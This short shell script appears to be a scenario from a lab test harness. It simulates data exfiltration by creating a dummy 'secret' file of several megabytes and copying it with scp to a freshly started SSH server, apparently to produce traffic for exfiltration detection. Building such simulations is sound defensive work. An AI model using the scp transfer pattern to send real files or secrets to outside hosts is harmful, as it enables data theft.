# SPDX-License-Identifier: MIT
# label: exfil
# source: lab-ssh
# needs: scp sshd
# seconds: 90
# A file leaves by scp or sftp to a host never talked to.
. $lab/victims.sh

servers() {
	ssh_up s "$(choose 22 2222)" # the port is in the server's configuration
	_port=$(sed -n 's/^Port //p' "$work/ssh.s/conf")
}

scenario() {
	_mega=$(choose 6 12 18)
	setting options "$_mega MB to port $_port"
	blob "$work/secret" $((_mega * 1000000))
	sleep 5
	attack c s tcp "$_port" -- timeout 70 scp $(ssh_options) -l "$(choose 4000 16000)" \
		-P "$_port" "$work/secret" "$(addr s):/tmp/secret"
	sleep 5
}
